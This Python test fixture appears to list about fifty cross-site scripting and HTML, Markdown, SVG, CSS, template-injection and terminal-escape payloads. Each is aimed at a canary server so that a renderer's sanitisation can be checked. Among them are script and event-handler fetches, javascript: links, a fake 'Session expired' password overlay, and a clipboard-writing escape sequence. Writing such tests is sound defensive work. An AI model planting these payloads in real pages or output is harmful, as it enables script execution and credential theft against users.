"""Hostile texts for the page: each asks a browser for something, runs something, or draws something over the page.

`{canary}` is the address of a server that must hear nothing.
"""

from __future__ import annotations

TEMPLATES = (
    "<script>fetch('{canary}/script')</script>",
    "<img src='{canary}/img'>",
    "<img src=x onerror=\"fetch('{canary}/onerror')\">",
    "![picture]({canary}/markdown)",
    "![picture][ref]\n\n[ref]: {canary}/reference",
    "[link]({canary}/link)",
    "[click](javascript:fetch('{canary}/js'))",
    "<{canary}/autolink>",
    "{canary}/bare",
    "<a href='{canary}/a'>here</a>",
    "<a href=javascript:alert(1)>x</a>",
    "<svg onload=\"fetch('{canary}/svg')\"></svg>",
    "<svg><image href='{canary}/svgimage'/></svg>",
    "<svg><use href='{canary}/use#x'/></svg>",
    "<svg><script>fetch('{canary}/svgscript')</script></svg>",
    "<math href='javascript:alert(1)'>x</math>",
    "<math><mtext><img src='{canary}/mathml'></mtext></math>",
    "<iframe src='{canary}/iframe'></iframe>",
    "<iframe srcdoc=\"<img src='{canary}/srcdoc'>\"></iframe>",
    "<object data='{canary}/object'></object>",
    "<embed src='{canary}/embed'>",
    "<video src='{canary}/video' autoplay></video>",
    "<audio src='{canary}/audio' autoplay></audio>",
    "<link rel=stylesheet href='{canary}/css'>",
    "<link rel=prefetch href='{canary}/prefetch'>",
    "<style>@import '{canary}/import'; body{{background:url({canary}/style)}}</style>",
    "<div style=\"background:url('{canary}/inline')\">x</div>",
    "<div style='position:fixed;inset:0;background:#fff;z-index:99'>Session expired <input type=password></div>",
    "<form action='{canary}/form'><input name=p><button>Send</button></form>",
    "<base href='{canary}/'>",
    "<meta http-equiv=refresh content='0;url={canary}/meta'>",
    "<details open ontoggle=\"fetch('{canary}/toggle')\">x</details>",
    "<input autofocus onfocus=\"fetch('{canary}/focus')\">",
    "<marquee onstart=\"fetch('{canary}/marquee')\">x</marquee>",
    "<table background='{canary}/table'><tr><td>x</td></tr></table>",
    "<template><img src='{canary}/template'></template><noscript><img src='{canary}/noscript'></noscript>",
    "\"><img src='{canary}/attribute'><p title=\"",
    "'><svg/onload=fetch('{canary}/quote')>",
    "</textarea></script><img src='{canary}/close'>",
    "&lt;img src='{canary}/entity'&gt; &#60;img src={canary}/number&#62;",
    "```\n</code></pre><img src='{canary}/fence'>\n```",
    "`</code><img src='{canary}/code'>`",
    "**<img src='{canary}/bold'>**",
    "- <img src='{canary}/item'>\n1. <img src='{canary}/numbered'>",
    "$\\href{{{canary}/katex}}{{x}}$ \\(\\includegraphics{{{canary}/tex}}\\)",
    "${{fetch('{canary}/template-string')}} {{{{constructor.constructor('fetch(\"{canary}/handlebars\")')()}}}}",
    "[1](javascript:fetch('{canary}/cite')) [2] [99] [1",
    "\u202egnp.exe \u2066<img src='{canary}/bidi'>\u2069 \U000e0041\x1b[2J\x1b]52;c;aGk=\x07",
    "<x-ours class=cite data-do=delete data-id=1 onclick=alert(1)>press me</x-ours>",
    '<button data-do="delete" data-id="0123456789abcdef">Delete</button>',
)


def payloads(canary: str) -> list[str]:
    """The texts, aimed at a canary."""
    return [template.format(canary=canary) for template in TEMPLATES]
